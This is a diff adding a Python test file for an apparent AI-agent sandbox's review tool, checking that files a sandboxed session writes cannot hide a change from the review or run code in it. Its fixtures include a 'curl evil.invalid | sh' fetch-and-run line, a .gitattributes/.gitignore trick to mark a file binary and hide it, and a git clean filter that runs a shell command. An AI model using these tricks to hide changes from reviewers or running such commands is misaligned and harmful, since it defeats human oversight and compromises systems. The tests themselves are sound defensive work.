@@ -1,0 +1,89 @@
+"""What the sandbox writes never decides how the review shows a change, nor runs in it.
+
+Git reads `.gitattributes` from the work tree, and a worktree's `config.worktree` from its
+admin folder, both of which a session can write. The review's diff reads attributes from
+the base commit only, and its git never reads the admin folder's config.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from frogdesk.review.diff import compute_diff, patch_text
+from frogdesk.sandbox.gitrun import run_git
+from frogdesk.sandbox.worktree import create_worktree
+from frogdesk.sandbox.wtrecord import WORKTREE_CONFIG, file_digest, sidecar_of
+from tests.support.review_helpers import git
+
+HIDDEN = "os.system('curl evil.invalid | sh')\n"
+
+
+def _repo(root: Path, attributes: str = "") -> Path:
+    repo = root / "repo"
+    (repo / "src").mkdir(parents=True)
+    (repo / "src" / "app.py").write_text("import os\n\nprint('hi')\n", encoding="utf-8")
+    (repo / "data.txt").write_text("one\n", encoding="utf-8")
+    if attributes:
+        (repo / ".gitattributes").write_text(attributes, encoding="utf-8")
+    git(repo, "init", "-q", "-b", "main")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    return repo
+
+
+def test_attributes_the_sandbox_writes_do_not_hide_a_change(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
+    app = wt.path / "src" / "app.py"
+    app.write_text(app.read_text(encoding="utf-8") + HIDDEN, encoding="utf-8")
+    # The attack: mark the file binary, and hide the two files that do it from the review.
+    (wt.path / "src" / ".gitattributes").write_text("app.py -diff\n", encoding="utf-8")
+    (wt.path / "src" / ".gitignore").write_text(".gitattributes\n.gitignore\n", encoding="utf-8")
+    diff = compute_diff(wt.path, wt.base_commit)
+    [change] = diff.files
+    assert change.path == "src/app.py" and not change.binary
+    added = [line for hunk in change.hunks for line in hunk.new_lines]
+    assert HIDDEN.encode() in added
+    patch, _ = patch_text(wt.path, wt.base_commit)
+    assert "+" + HIDDEN in patch
+
+
+def test_the_users_committed_attributes_still_count(tmp_path: Path) -> None:
+    """The control: the same attribute committed in the user's repository is honoured, so
+    the test above shows where attributes are read from, not that they are never read."""
+    repo = _repo(tmp_path, attributes="src/app.py -diff\n")
+    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
+    app = wt.path / "src" / "app.py"
+    app.write_text(app.read_text(encoding="utf-8") + HIDDEN, encoding="utf-8")
+    [change] = compute_diff(wt.path, wt.base_commit).files
+    assert change.binary
+
+
+def test_the_review_never_reads_the_worktrees_config(tmp_path: Path) -> None:
+    """A config.worktree that defines a clean filter, read by git after FrogDesk checked it
+    (a sandboxed loop swapping the file wins that race under Landlock), stands in here as a
+    file whose digest the record already holds. The review's git does not read it; the
+    control: git pinned to the admin folder, as before, runs the filter."""
+    repo = _repo(tmp_path)
+    git(repo, "config", "extensions.worktreeConfig", "true")
+    wt = create_worktree(repo, tmp_path / "worktrees", "s1")
+    marker = tmp_path / "filter-ran"
+    config = wt.git_dir / WORKTREE_CONFIG
+    config.write_text(
+        f'[filter "pwn"]\n\tclean = "sh -c \'touch {marker}; cat\'"\n', encoding="utf-8"
+    )
+    record = json.loads(sidecar_of(wt.path).read_text(encoding="utf-8"))
+    record["worktree_config"] = file_digest(config)  # the check saw what git will read
+    sidecar_of(wt.path).write_text(json.dumps(record), encoding="utf-8")
+    (wt.path / ".gitattributes").write_text("* filter=pwn\n", encoding="utf-8")
+    (wt.path / "data.txt").write_text("two\n", encoding="utf-8")
+
+    diff = compute_diff(wt.path, wt.base_commit)
+    patch_text(wt.path, wt.base_commit)
+    assert {c.path for c in diff.files} == {".gitattributes", "data.txt"}
+    assert not marker.exists()
+
+    env = {"GIT_INDEX_FILE": str(tmp_path / "control-index")}
+    run_git(wt.path, ["add", "-A", "--", "."], env=env)
+    assert marker.exists()
